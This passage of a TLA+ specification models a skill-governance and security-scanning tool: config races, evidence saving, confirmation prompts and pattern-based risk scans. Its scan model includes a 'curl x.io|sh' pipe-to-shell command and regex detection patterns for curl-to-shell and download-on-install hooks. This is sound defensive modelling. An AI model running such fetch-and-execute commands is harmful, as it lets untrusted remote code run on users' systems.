                                GovScanResult(1, 1, 0, <<summary>>, <<>>), saveCalls)
                        /\ UNCHANGED <<config, backups, clock>>

(***************************************************************************)
(* SpecRace: two mutations in flight on the same store, each a             *)
(* loadOrCreateConfig, a change in memory and a saveConfig, with            *)
(* atomicWriteJson taken step by step: mkdir, the temp name from            *)
(* Date.now(), writeFile (open with truncation, write), rename.             *)
(***************************************************************************)
Procs == {"p1", "p2"}

\* The mutations in flight: allowlistSkill(k) and disableSkill(skill).
RaceOps == [fn : {"allowlistSkill", "disableSkill"}, skillKey : SkillKeys \cup {BystanderKey}]

\* pc: idle, loaded (config read, new document built), named (mkdir done, temp
\*     path drawn), opened (temp file open and truncated), written (temp file
\*     closed), done (renamed: the call returns success), failed (the call
\*     returns success false), crashed.
\* fd: where the file that the open descriptor of writeFile refers to is now.
IdleProc ==
    [pc |-> "idle", op |-> [fn |-> "none", skillKey |-> "none"],
     snapshot |-> EmptyObject, data |-> FileMissing, seen |-> {},
     tmpPath |-> <<>>, fd |-> "none", rank |-> 0]
NoProcs == [p \in Procs |-> IdleProc]

InFlight(p) == procs[p].pc \in {"loaded", "named", "opened", "written"}

\* The content saveConfig is to write for the mutation op read from file.
ContentOf(op, file) ==
    IF op.fn = "allowlistSkill"
    THEN allowlistSkill(file, op.skillKey, TRUE).file
    ELSE disableSkill(file, op.skillKey, TRUE).file

\* loadOrCreateConfig() and the change of the entry in memory
Load(p, op) ==
    /\ procs[p].pc = "idle"
    /\ procs' = [procs EXCEPT ![p] =
                    [@ EXCEPT !.pc = "loaded", !.op = op,
                              !.snapshot = loadOrCreateConfig(config),
                              !.data = ContentOf(op, config),
                              !.seen = {q \in Procs : procs[q].pc = "done"}]]
    /\ UNCHANGED <<config, tmpFiles, clock>>

\* mkdir(dir, {recursive: true}); tmpPath = `${filepath}.tmp.${Date.now()}`
MkdirAndName(p) ==
    /\ procs[p].pc = "loaded"
    /\ \E ok \in BOOLEAN :
        IF ok
        THEN \E now \in clock..MaxClock :
                /\ clock' = now
                /\ procs' = [procs EXCEPT ![p] =
                                [@ EXCEPT !.pc = "named", !.tmpPath = <<"tmp", now>>]]
        ELSE /\ procs' = [procs EXCEPT ![p] = [@ EXCEPT !.pc = "failed"]]
             /\ UNCHANGED clock
    /\ UNCHANGED <<config, tmpFiles>>

\* writeFile(tmpPath, content): the open, which creates the file or truncates it
OpenTmp(p) ==
    /\ procs[p].pc = "named"
    /\ \E ok \in BOOLEAN :
        IF ok
        THEN /\ tmpFiles' = Spread(tmpFiles, procs[p].tmpPath :> FilePartial)
             /\ procs' = [procs EXCEPT ![p] = [@ EXCEPT !.pc = "opened", !.fd = "tmp"]]
        ELSE /\ procs' = [procs EXCEPT ![p] = [@ EXCEPT !.pc = "failed"]]
             /\ UNCHANGED tmpFiles
    /\ UNCHANGED <<config, clock>>

\* What a file holds after data was written from offset 0 through a descriptor:
\* data when nothing was written to it since this descriptor truncated it; when
\* another descriptor wrote meanwhile, data or a mix of the two contents.
AfterWrite(current, data) ==
    IF current = FilePartial THEN {data} ELSE {data, FilePartial}

\* writeFile(tmpPath, content): the write and the close. The descriptor writes
\* to the file it opened, wherever a rename has moved that file since.
WriteTmp(p) ==
    /\ procs[p].pc = "opened"
    /\ \E ok \in BOOLEAN :
        IF ~ok
        THEN /\ procs' = [procs EXCEPT ![p] = [@ EXCEPT !.pc = "failed", !.fd = "none"]]
             /\ UNCHANGED <<config, tmpFiles>>
        ELSE /\ procs' = [procs EXCEPT ![p] = [@ EXCEPT !.pc = "written", !.fd = "none"]]
             /\ CASE procs[p].fd = "tmp" ->
                        /\ \E c \in AfterWrite(tmpFiles[procs[p].tmpPath], procs[p].data) :
                              tmpFiles' = Spread(tmpFiles, procs[p].tmpPath :> c)
                        /\ UNCHANGED config
                  [] procs[p].fd = "store" ->
                        /\ \E c \in AfterWrite(config, procs[p].data) : config' = c
                        /\ UNCHANGED tmpFiles
                  [] OTHER -> UNCHANGED <<config, tmpFiles>>
    /\ UNCHANGED clock

\* rename(tmpPath, filepath): fails when the temp file is gone
Rename(p) ==
    /\ procs[p].pc = "written"
    /\ \E ok \in BOOLEAN :
        IF ok /\ Has(tmpFiles, procs[p].tmpPath)
        THEN /\ config' = tmpFiles[procs[p].tmpPath]
             /\ tmpFiles' = Delete(tmpFiles, procs[p].tmpPath)
             /\ procs' = [q \in Procs |->
                    IF q = p
                    THEN [procs[q] EXCEPT !.pc = "done",
                            !.rank = 1 + Cardinality({r \in Procs : procs[r].pc = "done"})]
                    ELSE IF procs[q].fd = "tmp" /\ procs[q].tmpPath = procs[p].tmpPath
                    THEN [procs[q] EXCEPT !.fd = "store"]
                    ELSE IF procs[q].fd = "store"
                    THEN [procs[q] EXCEPT !.fd = "unlinked"]
                    ELSE procs[q]]
        ELSE /\ procs' = [procs EXCEPT ![p] = [@ EXCEPT !.pc = "failed"]]
             /\ UNCHANGED <<config, tmpFiles>>
    /\ UNCHANGED clock

\* The writer stops for good at whatever step it is.
Crash(p) ==
    /\ InFlight(p)
    /\ procs' = [procs EXCEPT ![p] = [@ EXCEPT !.pc = "crashed", !.fd = "none"]]
    /\ UNCHANGED <<config, tmpFiles, clock>>

(***************************************************************************)
(* SpecEvidence: evidence generated, saved step by step (mkdir, the open   *)
(* of writeFile, its write) and read back by loadEvidence and             *)
(* findEvidenceForSkill.                                                   *)
(***************************************************************************)
EvidenceKeys == SkillKeys \cup {BystanderKey}

\* What scanSkill returned for the skill the evidence is generated for.
ScanInputs ==
    { << ScannedFinding("shell-exec", "index.js", 3, "exec") >>,
      << ScannedFinding("shell-exec", "index.js", 3, "spawn") >>,
      << ScannedFinding("hardcoded-token", "index.js", 1, "token='A1b2C3d4E5f6G7h8I9j0'"),
         ScannedFinding("network-request", "index.js", 2, "fetch") >> }

\* pc: generated (generateEvidence returned), dir (mkdir done), opened (the file
\*     is created or truncated), saved, failed (saveEvidence threw), crashed.
Saving(pc, evidence) == [pc |-> pc, evidence |-> evidence]
SaveInFlight == saving.pc \in {"generated", "dir", "opened"}

\* generateEvidence(scanResult, assessment) on what a scan returned; the id is
\* what randomUUID().slice(0, 8) yields.
GenerateEvidence ==
    /\ ~SaveInFlight
    /\ \E k \in EvidenceKeys, fs \in ScanInputs, id \in EvidenceIds, now \in clock..MaxClock :
          /\ findings' = fs
          /\ assessment' = assessRisk(fs)
          /\ clock' = now
          /\ saving' = Saving("generated", generateEvidenceAt(k, fs, assessRisk(fs), id, now))
    /\ UNCHANGED <<evidenceDir, result>>

\* saveEvidence: mkdir(EVIDENCE_DIR, {recursive: true})
SaveMkdir ==
    /\ saving.pc = "generated"
    /\ \E ok \in BOOLEAN :
          IF ok THEN /\ evidenceDir' = mkdir(evidenceDir)
                     /\ saving' = [saving EXCEPT !.pc = "dir"]
          ELSE /\ saving' = [saving EXCEPT !.pc = "failed"]
               /\ UNCHANGED evidenceDir
    /\ UNCHANGED <<findings, assessment, clock, result>>

\* saveEvidence: writeFile(filepath, ...), the open that creates or truncates
SaveOpen ==
    /\ saving.pc = "dir"
    /\ \E ok \in BOOLEAN :
          IF ok /\ evidenceDir # DirMissing
          THEN /\ evidenceDir' = Spread(evidenceDir, saving.evidence.id :> FilePartial)
               /\ saving' = [saving EXCEPT !.pc = "opened"]
          ELSE /\ saving' = [saving EXCEPT !.pc = "failed"]
               /\ UNCHANGED evidenceDir
    /\ UNCHANGED <<findings, assessment, clock, result>>

\* saveEvidence: writeFile(filepath, ...), the write to the end and the close
SaveWrite ==
    /\ saving.pc = "opened"
    /\ \E ok \in BOOLEAN :
          IF ok
          THEN /\ evidenceDir' = Spread(evidenceDir, saving.evidence.id :> saving.evidence)
               /\ saving' = [saving EXCEPT !.pc = "saved"]
          ELSE /\ saving' = [saving EXCEPT !.pc = "failed"]
               /\ UNCHANGED evidenceDir
    /\ UNCHANGED <<findings, assessment, clock, result>>

\* The process stops for good during saveEvidence.
SaveCrash ==
    /\ SaveInFlight
    /\ saving' = [saving EXCEPT !.pc = "crashed"]
    /\ UNCHANGED <<findings, assessment, clock, result, evidenceDir>>

\* loadEvidence(evidenceId)
LoadEvidence(id) ==
    /\ result' = Result("loadEvidence",
                    [id |-> id, evidence |-> loadEvidence(evidenceDir, id)], <<>>)
    /\ UNCHANGED <<findings, assessment, clock, evidenceDir, saving>>

\* findEvidenceForSkill(skillKey); readdir throws when the directory is missing
FindEvidenceForSkill(k) ==
    /\ IF evidenceDir = DirMissing
       THEN result' = Result("findEvidenceForSkill",
                        [skillKey |-> k, files |-> <<>>, evidence |-> <<>>], <<>>)
       ELSE \E files \in readdir(evidenceDir) :
               result' = Result("findEvidenceForSkill",
                            [skillKey |-> k, files |-> files,
                             evidence |-> findEvidenceForSkill(evidenceDir, files, k)], <<>>)
    /\ UNCHANGED <<findings, assessment, clock, evidenceDir, saving>>

\* The caller takes the result of a read.
ReturnRead ==
    /\ ~Idle
    /\ result' = NoResult
    /\ UNCHANGED <<findings, assessment, clock, evidenceDir, saving>>

(***************************************************************************)
(* SpecRoundTrip: one evidence record written as JSON text by saveEvidence *)
(* and parsed back by loadEvidence. Here EVIDENCE_DIR maps a file name to  *)
(* the text of the file.                                                   *)
(***************************************************************************)
\* `${evidence.id}.json`, and join(EVIDENCE_DIR, filename)
EvidenceFilename(id) == <<id, ".json">>
EvidenceFilepath(id) == <<"EVIDENCE_DIR", EvidenceFilename(id)>>

\* The file of an earlier save that the directory can hold from the start.
EarlierEvidence ==
    generateEvidenceAt(BystanderKey, << ScannedFinding("shell-exec", "index.js", 3, "exec") >>,
                       assessRisk(<< ScannedFinding("shell-exec", "index.js", 3, "exec") >>),
                       "ev-e5f6a7b8", 0)
InitialEvidenceDirs ==
    { DirMissing, EmptyObject,
      EvidenceFilename(EarlierEvidence.id) :> stringifyEvidence(EarlierEvidence) }

\* generateEvidence, once
GenerateOnce ==
    /\ saving = NotSaving
    /\ GenerateEvidence

\* saveEvidence(evidence): mkdir, then writeFile of JSON.stringify(evidence); it
\* returns the file path, or throws at mkdir, or throws at writeFile leaving the
\* file with the beginning of the text.
SaveEvidenceFile ==
    /\ saving.pc = "generated"
    /\ LET ev == saving.evidence
           text == stringifyEvidence(ev)
       IN  \E outcome \in SaveOutcomes :
             CASE outcome = "saved" ->
                    /\ evidenceDir' = Spread(mkdir(evidenceDir), EvidenceFilename(ev.id) :> text)
                    /\ saving' = [pc |-> "saved", evidence |-> ev,
                                  filepath |-> EvidenceFilepath(ev.id)]
               [] outcome = "mkdir" ->
                    /\ saving' = [saving EXCEPT !.pc = "failed"]
                    /\ UNCHANGED evidenceDir
               [] outcome = "writeFile" ->
                    /\ evidenceDir' = Spread(mkdir(evidenceDir),
                            EvidenceFilename(ev.id) :> SubSeq(text, 1, Len(text) \div 2))
                    /\ saving' = [saving EXCEPT !.pc = "failed"]
    /\ UNCHANGED <<findings, assessment, clock, result>>

\* loadEvidence(evidenceId): readFile and JSON.parse inside try; null from catch
LoadEvidenceFile(id) ==
    /\ LET file == EvidenceFilename(id)
           parsed == JSONparse(evidenceDir[file])
       IN  result' = Result("loadEvidence",
                       [id |-> id,
                        evidence |-> IF evidenceDir = DirMissing \/ ~Has(evidenceDir, file)
                                     THEN Null
                                     ELSE IF parsed = SyntaxError THEN Null ELSE parsed],
                       <<>>)
    /\ UNCHANGED <<findings, assessment, clock, evidenceDir, saving>>

(***************************************************************************)
(* SpecAuth: the authorization calls under the test-mode flag               *)
(***************************************************************************)
\* The environments a call can meet while the flag has its current value.
EnvsNow == {env \in AuthEnvs : env.testMode = testMode}

\* setTestMode(enabled)
SetTestMode(enabled) ==
    /\ testMode' = enabled
    /\ UNCHANGED authResult

\* requireAuth(ctx)
RequireAuth(ctx) ==
    \E env \in EnvsNow :
        /\ authResult' = AuthResult("requireAuth", ctx, env, requireAuth(env))
        /\ UNCHANGED testMode

\* requireAuthWithTest(ctx)
RequireAuthWithTest(ctx) ==
    \E env \in EnvsNow :
        /\ authResult' = AuthResult("requireAuthWithTest", ctx, env,
                                    requireAuthWithTest(env))
        /\ UNCHANGED testMode

InitAuth ==
    /\ testMode = FALSE
    /\ prompt = NoPrompt
    /\ authResult = NoAuthResult
    /\ procs = NoProcs
    /\ tmpFiles = EmptyObject
    /\ findings = <<>>
    /\ assessment = NoAssessment
    /\ pcA = "input"
    /\ config = FileMissing
    /\ evidenceDir = DirMissing
    /\ saving = NotSaving
    /\ backups = {}
    /\ clock = 0
    /\ result = NoResult

NextAuth ==
    \/ \E enabled \in BOOLEAN : SetTestMode(enabled) /\ UNCHANGED <<assessVars, govVars, raceVars, evidVars, promptVars>>
    \/ \E ctx \in AuthContexts : RequireAuth(ctx) /\ UNCHANGED <<assessVars, govVars, raceVars, evidVars, promptVars>>
    \/ \E ctx \in AuthContexts : RequireAuthWithTest(ctx) /\ UNCHANGED <<assessVars, govVars, raceVars, evidVars, promptVars>>

SpecAuth == InitAuth /\ [][NextAuth]_vars

(***************************************************************************)
(* SpecPrompt: requireAuth step by step. confirmAction opens a readline    *)
(* interface, starts a timer of 30000 ms and asks its question; the answer *)
(* callback or the timer callback resolves the promise, and requireAuth    *)
(* returns when it is resolved. Time passes in steps of 10 s.              *)
(***************************************************************************)
TimeoutTicks == 3
\* What the user can have typed when Enter is pressed
Answers == {"yes", "YES", "Yes", "yes ", "y", "no", ""}

Prompting(ctx, elapsed) == [pc |-> "waiting", ctx |-> ctx, elapsed |-> elapsed]
Resolved(ctx, answer, confirmed) ==
    [pc |-> "resolved", ctx |-> ctx, answer |-> answer, confirmed |-> confirmed]
PromptEnv(isTTY, answer) == [testMode |-> testMode, isTTY |-> isTTY, answer |-> answer]

\* requireAuth(ctx) is called: without a TTY it returns at once; with one it
\* awaits confirmAction, which throws (createInterface) or waits for a callback.
RequireAuthBegin(ctx) ==
    /\ prompt.pc = "idle"
    /\ \E start \in {"noTTY", "error", "question"} :
          CASE start = "noTTY" ->
                 /\ authResult' = AuthResult("requireAuth", ctx, PromptEnv(FALSE, "none"), FALSE)
                 /\ UNCHANGED prompt
            [] start = "error" ->
                 /\ authResult' = AuthResult("requireAuth", ctx, PromptEnv(TRUE, "error"), FALSE)
                 /\ UNCHANGED prompt
            [] start = "question" ->
                 /\ authResult' = NoAuthResult
                 /\ prompt' = Prompting(ctx, 0)
    /\ UNCHANGED testMode

\* 10 s pass while the question is open and the timer has not run out
Tick ==
    /\ prompt.pc = "waiting"
    /\ prompt.elapsed < TimeoutTicks
    /\ prompt' = [prompt EXCEPT !.elapsed = @ + 1]
    /\ UNCHANGED <<testMode, authResult>>

\* rl.question callback: clearTimeout; rl.close(); resolve(answer.toLowerCase() === 'yes')
Answer(a) ==
    /\ prompt.pc = "waiting"
    /\ prompt' = Resolved(prompt.ctx, a, toLowerCase(a) = "yes")
    /\ UNCHANGED <<testMode, authResult>>

\* The timer callback that closes the interface and leaves the promise pending.
TimerFires_NoResolve ==
    /\ prompt.pc = "waiting"
    /\ prompt.elapsed = TimeoutTicks
    /\ prompt' = [prompt EXCEPT !.pc = "closed"]
    /\ UNCHANGED <<testMode, authResult>>

\* setTimeout callback after 30000 ms: rl.close(); resolve(false)
TimerFires ==
    /\ prompt.pc = "waiting"
    /\ prompt.elapsed = TimeoutTicks
    /\ prompt' = Resolved(prompt.ctx, "timeout", FALSE)
    /\ UNCHANGED <<testMode, authResult>>

\* requireAuth returns { authorized: confirmed, ... }
RequireAuthReturn ==
    /\ prompt.pc = "resolved"
    /\ authResult' = AuthResult("requireAuth", prompt.ctx, PromptEnv(TRUE, prompt.answer),
                                prompt.confirmed)
    /\ prompt' = NoPrompt
    /\ UNCHANGED testMode

InitPrompt == InitAuth

PromptFrame == UNCHANGED <<assessVars, govVars, raceVars, evidVars>>

NextPrompt ==
    \/ \E ctx \in AuthContexts : RequireAuthBegin(ctx) /\ PromptFrame
    \/ Tick /\ PromptFrame
    \/ \E a \in Answers : Answer(a) /\ PromptFrame
    \/ TimerFires /\ PromptFrame
    \/ RequireAuthReturn /\ PromptFrame

\* Time passes, a timer that has run out gets its callback run, and the
\* continuation of a resolved promise is run: the event loop of the process.
SpecPrompt ==
    /\ InitPrompt
    /\ [][NextPrompt]_vars
    /\ WF_vars(Tick /\ PromptFrame)
    /\ WF_vars(TimerFires /\ PromptFrame)
    /\ WF_vars(RequireAuthReturn /\ PromptFrame)

(***************************************************************************)
(* The store file before the first operation                               *)
(***************************************************************************)
\* The documents the config file can hold before the first operation: one
\* without skills whose other keys include a JSON5 number that is not finite,
\* and the document of the tests with the entry of the skill added.
BystanderEntry == [enabled |-> TRUE, path |-> "/path/to/skill"]
InitialDocs ==
    { [version |-> "1.0", maxConcurrentSkills |-> Infinity],
      [version |-> "1.0",
       skills |-> [dirs |-> <<"~/.local/share/skills", "/opt/company-skills">>,
                   entries |-> [k \in SkillKeys \cup {BystanderKey} |->
                                  IF k = BystanderKey THEN BystanderEntry
                                  ELSE [enabled |-> TRUE, path |-> Skill(k).path]]]] }
InitialFiles == {FileMissing, FileCorrupt} \cup {FileOf(doc) : doc \in InitialDocs}



(***************************************************************************)
(* SpecRace: the specification                                             *)
(***************************************************************************)
InitRace ==
    /\ config \in {FileMissing} \cup {FileOf(doc) : doc \in InitialDocs}
    /\ procs = NoProcs
    /\ tmpFiles = EmptyObject
    /\ clock = 0
    /\ evidenceDir = DirMissing
    /\ saving = NotSaving
    /\ backups = {}
    /\ result = NoResult
    /\ testMode = FALSE
    /\ prompt = NoPrompt
    /\ authResult = NoAuthResult
    /\ findings = <<>>
    /\ assessment = NoAssessment
    /\ pcA = "input"

RaceFrame == UNCHANGED <<assessVars, authVars, evidVars, evidenceDir, backups, result>>

NextRace ==
    \/ \E p \in Procs, op \in RaceOps : Load(p, op) /\ RaceFrame
    \/ \E p \in Procs : MkdirAndName(p) /\ RaceFrame
    \/ \E p \in Procs : OpenTmp(p) /\ RaceFrame
    \/ \E p \in Procs : WriteTmp(p) /\ RaceFrame
    \/ \E p \in Procs : Rename(p) /\ RaceFrame
    \/ \E p \in Procs : Crash(p) /\ RaceFrame

SpecRace == InitRace /\ [][NextRace]_vars

(***************************************************************************)
(* SpecEvidence: the specification                                         *)
(***************************************************************************)
InitEvidence ==
    /\ evidenceDir = DirMissing
    /\ saving = NotSaving
    /\ clock = 0
    /\ result = NoResult
    /\ findings = <<>>
    /\ assessment = NoAssessment
    /\ pcA = "input"
    /\ config = FileMissing
    /\ backups = {}
    /\ testMode = FALSE
    /\ prompt = NoPrompt
    /\ authResult = NoAuthResult
    /\ procs = NoProcs
    /\ tmpFiles = EmptyObject

EvidenceFrame == UNCHANGED <<pcA, config, backups, authVars, raceVars>>

NextEvidence ==
    \/ Idle /\ GenerateEvidence /\ EvidenceFrame
    \/ Idle /\ SaveMkdir /\ EvidenceFrame
    \/ Idle /\ SaveOpen /\ EvidenceFrame
    \/ Idle /\ SaveWrite /\ EvidenceFrame
    \/ Idle /\ SaveCrash /\ EvidenceFrame
    \/ \E id \in EvidenceIds : Idle /\ LoadEvidence(id) /\ EvidenceFrame
    \/ \E k \in EvidenceKeys : Idle /\ FindEvidenceForSkill(k) /\ EvidenceFrame
    \/ ReturnRead /\ EvidenceFrame

SpecEvidence == InitEvidence /\ [][NextEvidence]_vars

\* SpecRoundTrip: the specification
InitRoundTrip ==
    /\ evidenceDir \in InitialEvidenceDirs
    /\ saving = NotSaving
    /\ clock = 0
    /\ result = NoResult
    /\ findings = <<>>
    /\ assessment = NoAssessment
    /\ pcA = "input"
    /\ config = FileMissing
    /\ backups = {}
    /\ testMode = FALSE
    /\ prompt = NoPrompt
    /\ authResult = NoAuthResult
    /\ procs = NoProcs
    /\ tmpFiles = EmptyObject

NextRoundTrip ==
    \/ Idle /\ GenerateOnce /\ EvidenceFrame
    \/ Idle /\ SaveEvidenceFile /\ EvidenceFrame
    \/ \E id \in EvidenceIds : Idle /\ LoadEvidenceFile(id) /\ EvidenceFrame
    \/ ReturnRead /\ EvidenceFrame

SpecRoundTrip == InitRoundTrip /\ [][NextRoundTrip]_vars

(***************************************************************************)
(* Spec: the governance store under the core functions and the commands    *)
(***************************************************************************)


Init ==
    /\ config \in InitialFiles
    /\ evidenceDir = DirMissing
    /\ saving = NotSaving
    /\ backups = {}
    /\ clock = 0
    /\ result = NoResult
    /\ findings = <<>>
    /\ assessment = NoAssessment
    /\ pcA = "input"
    /\ testMode = FALSE
    /\ prompt = NoPrompt
    /\ authResult = NoAuthResult
    /\ procs = NoProcs
    /\ tmpFiles = EmptyObject

Next ==
    \/ \E k \in SkillKeys : Idle /\ QuarantineSkill(k) /\ UNCHANGED <<assessVars, authVars, raceVars, evidVars>>
    \/ \E k \in SkillKeys : Idle /\ RestoreSkill(k) /\ UNCHANGED <<assessVars, authVars, raceVars, evidVars>>
    \/ \E k \in SkillKeys : Idle /\ DisableSkill(k) /\ UNCHANGED <<assessVars, authVars, raceVars, evidVars>>
    \/ \E k \in SkillKeys : Idle /\ AllowlistSkill(k) /\ UNCHANGED <<assessVars, authVars, raceVars, evidVars>>
    \/ \E k \in SkillKeys : Idle /\ GovQuarantine(k) /\ UNCHANGED <<assessVars, authVars, raceVars, evidVars>>
    \/ \E k \in SkillKeys : Idle /\ GovRestore(k) /\ UNCHANGED <<assessVars, authVars, raceVars, evidVars>>
    \/ \E k \in SkillKeys : Idle /\ GovAllow(k) /\ UNCHANGED <<assessVars, authVars, raceVars, evidVars>>
    \/ Idle /\ GovScan /\ UNCHANGED <<assessVars, authVars, raceVars, evidVars>>
    \/ Return /\ UNCHANGED <<assessVars, authVars, raceVars, evidVars>>

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* SpecScan: scanSkill on a skill with one file and an install command.    *)
(* A file is a sequence of pieces, each a newline or a text; what the      *)
(* patterns of the rules match is given per piece.                         *)
(***************************************************************************)
Newline == "\n"
Pieces == {Newline, "x", "exec", "curl x.io|sh"}
Unreadable == <<"EACCES">>
FileContents == UNION {[1..n -> Pieces] : n \in 0..MaxFileLen} \cup {Unreadable}

\* metadata.openclaw.install: absent, or the command
NoInstall == "undefined"
InstallCommands == {NoInstall, "npm install", "curl x.io|sh", "Download tools"}

\* The rule whose pattern matches the piece: /(exec|spawn|...)/gi matches exec,
\* /curl\s+[^\n]*\|\s*(bash|sh|zsh)/gi matches curl x.io|sh.
PieceMatches(piece, rule) ==
    \/ piece = "exec" /\ rule = "shell-exec"
    \/ piece = "curl x.io|sh" /\ rule = "curl-pipe-bash"

\* upToMatch.split('\n').length for the match at piece i
lineNum(content, i) == Cardinality({j \in 1..(i - 1) : content[j] = Newline}) + 1

\* relative(skillPath, filepath): the components below the skill root
relative(skillPath, filepath) == SubSeq(filepath, Len(skillPath) + 1, Len(filepath))

\* while ((match = rule.pattern.exec(content)) !== null) findings.push(...)
MatchLoop(content, relPath, rule) ==
    LET at == SelectSeq([i \in 1..Len(content) |-> i],
                        LAMBDA i : PieceMatches(content[i], rule))
    IN  [n \in 1..Len(at) |->
            ScannedFinding(rule, relPath, lineNum(content, at[n]), content[at[n]])]

\* for (const rule of DEFAULT_RULES) ...
RECURSIVE RuleLoop(_, _, _)
RuleLoop(content, relPath, r) ==
    IF r > Len(DEFAULT_RULES) THEN <<>>
    ELSE MatchLoop(content, relPath, DEFAULT_RULES[r].id) \o RuleLoop(content, relPath, r + 1)

\* scanFile(filepath, skillPath): no finding when the file cannot be read
scanFile(filepath, content, skillPath) ==
    IF content = Unreadable THEN <<>>
    ELSE RuleLoop(content, relative(skillPath, filepath), 1)

\* String.prototype.toLowerCase on characters
UpperCase == <<"A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M",
               "N", "O", "P", "Q", "R", "S", "T", "U", "V", "W", "X", "Y", "Z">>
LowerCase == <<"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m",
               "n", "o", "p", "q", "r", "s", "t", "u", "v", "w", "x", "y", "z">>
toLowerCaseChars(text) ==
    [i \in DOMAIN text |->
        IF \E u \in DOMAIN UpperCase : UpperCase[u] = text[i]
        THEN LowerCase[CHOOSE u \in DOMAIN UpperCase : UpperCase[u] = text[i]]
        ELSE text[i]]

\* The finding pushed for the install command of the metadata
MetadataFinding(install) ==
    [rule |-> "metadata-install-download", severity |-> "HIGH", file |-> <<"skill.json">>,
     line |-> 0, match |-> install,
     description |-> "Install hook downloads external content"]

\* scanSkill(skill): the findings of the file (index.js under the skill root),
\* then the finding of the metadata check
scanSkill(skill, content, install) ==
    LET fileFindings == scanFile(skill.path \o <<"index.js">>, content, skill.path)
        installCmd == toLowerCaseChars(Chars(install))
        downloads == \/ includes(installCmd, Chars("download"))
                     \/ includes(installCmd, Chars("curl"))
                     \/ includes(installCmd, Chars("wget"))
    IN  [skill |-> skill,
         findings |-> IF install # NoInstall /\ downloads
                      THEN Append(fileFindings, MetadataFinding(install))
                      ELSE fileFindings,
         scannedFiles |-> 1]

\* The call readFile(filepath, 'utf-8') inside scanFile and what it yielded
ReadFileCall(filepath, content) ==
    [fn |-> "readFile", filepath |-> filepath, content |-> content]

\* await scanSkill(skill)
ScanSkill(k) ==
    /\ \E content \in FileContents, install \in InstallCommands :
          result' = Result("scanSkill", scanSkill(Skill(k), content, install),
                           <<ReadFileCall(Skill(k).path \o <<"index.js">>, content)>>)
    /\ UNCHANGED <<config, evidenceDir, backups, clock>>

(***************************************************************************)
(* SpecRead: the reads of the store between the core mutations             *)
(***************************************************************************)
\* The keys the reads are asked about: the skill the mutations act on, the entry
\* of the other skill, a skill without any entry, and a skill whose directory
\* carries a name every JavaScript object answers to.
ReadKeys == SkillKeys \cup {BystanderKey, "new-skill", "constructor"}

ReadResult(op, k, value) == Result(op, [skillKey |-> k, value |-> value], <<>>)

\* await isQuarantined(skillKey)
IsQuarantined(k) ==
    /\ result' = ReadResult("isQuarantined", k, isQuarantined(config, k))
    /\ UNCHANGED <<config, evidenceDir, backups, clock>>

\* await isAllowlisted(skillKey)
IsAllowlisted(k) ==
    /\ result' = ReadResult("isAllowlisted", k, isAllowlisted(config, k))
    /\ UNCHANGED <<config, evidenceDir, backups, clock>>

\* await getSkillStatus(skillKey)
GetSkillStatus(k) ==
    /\ result' = ReadResult("getSkillStatus", k, getSkillStatus(config, k))
    /\ UNCHANGED <<config, evidenceDir, backups, clock>>

InitRead ==
    /\ config \in InitialFiles \cup {FilePartial}
    /\ evidenceDir = DirMissing
    /\ saving = NotSaving
    /\ backups = {}
    /\ clock = 0
    /\ result = NoResult
    /\ findings = <<>>
    /\ assessment = NoAssessment
    /\ pcA = "input"
    /\ testMode = FALSE
    /\ prompt = NoPrompt
    /\ authResult = NoAuthResult
    /\ procs = NoProcs
    /\ tmpFiles = EmptyObject

ReadFrame == UNCHANGED <<assessVars, authVars, raceVars, evidVars>>

NextRead ==
    \/ \E k \in SkillKeys : Idle /\ QuarantineSkill(k) /\ ReadFrame
    \/ \E k \in SkillKeys : Idle /\ RestoreSkill(k) /\ ReadFrame
    \/ \E k \in SkillKeys : Idle /\ DisableSkill(k) /\ ReadFrame
    \/ \E k \in SkillKeys : Idle /\ AllowlistSkill(k) /\ ReadFrame
    \/ \E k \in ReadKeys : Idle /\ IsQuarantined(k) /\ ReadFrame
    \/ \E k \in ReadKeys : Idle /\ IsAllowlisted(k) /\ ReadFrame
    \/ \E k \in ReadKeys : Idle /\ GetSkillStatus(k) /\ ReadFrame
    \/ Return /\ ReadFrame

SpecRead == InitRead /\ [][NextRead]_vars

\* SpecScan: the specification
InitScan == InitRead /\ config = FileMissing

NextScan ==
    \/ \E k \in SkillKeys : Idle /\ ScanSkill(k) /\ ReadFrame
    \/ Return /\ ReadFrame

SpecScan == InitScan /\ [][NextScan]_vars

(***************************************************************************)
(* SpecAssess: assessRisk applied to every bounded finding list            *)
(***************************************************************************)
InitAssess ==
    /\ findings \in FindingLists
    /\ assessment = NoAssessment
    /\ pcA = "input"
    /\ config = FileMissing
    /\ evidenceDir = DirMissing
    /\ saving = NotSaving
    /\ backups = {}
    /\ clock = 0
    /\ result = NoResult
    /\ testMode = FALSE
    /\ prompt = NoPrompt
    /\ authResult = NoAuthResult
    /\ procs = NoProcs
    /\ tmpFiles = EmptyObject

AssessRisk ==
    /\ pcA = "input"
    /\ assessment' = assessRisk(findings)
    /\ pcA' = "done"
    /\ UNCHANGED findings
    /\ UNCHANGED <<govVars, authVars, raceVars, evidVars>>

NextAssess == AssessRisk

SpecAssess == InitAssess /\ [][NextAssess]_vars

(***************************************************************************)
(* SpecAssessMany: assessRisk applied to the findings of a scan in which   *)
(* one CRITICAL or HIGH rule matched many times                            *)
(***************************************************************************)
Repeated(f, n) == [i \in 1..n |-> f]

\* The matches of one CRITICAL or HIGH rule, from 8 up to MaxRepeated of them,
\* followed by at most one more finding.
ManyFindingLists ==
    { Repeated(f, n) \o rest :
        f \in {x \in FindingInputs : x.severity \in {"CRITICAL", "HIGH"}},
        n \in 8..MaxRepeated,
        rest \in UNION {[1..m -> FindingInputs] : m \in 0..1} }

InitAssessMany ==
    /\ findings \in ManyFindingLists
    /\ assessment = NoAssessment
    /\ pcA = "input"
    /\ config = FileMissing
    /\ evidenceDir = DirMissing
    /\ saving = NotSaving
    /\ backups = {}
    /\ clock = 0
    /\ result = NoResult
    /\ testMode = FALSE
    /\ prompt = NoPrompt
    /\ authResult = NoAuthResult
    /\ procs = NoProcs
    /\ tmpFiles = EmptyObject

NextAssessMany == AssessRisk

SpecAssessMany == InitAssessMany /\ [][NextAssessMany]_vars

(***************************************************************************)
(* Properties of assessRisk (SpecAssess)                                   *)
(***************************************************************************)
CountSeverity(fs, s) == Cardinality({i \in DOMAIN fs : fs[i].severity = s})
RuleIds(fs) == {fs[i].rule : i \in DOMAIN fs}
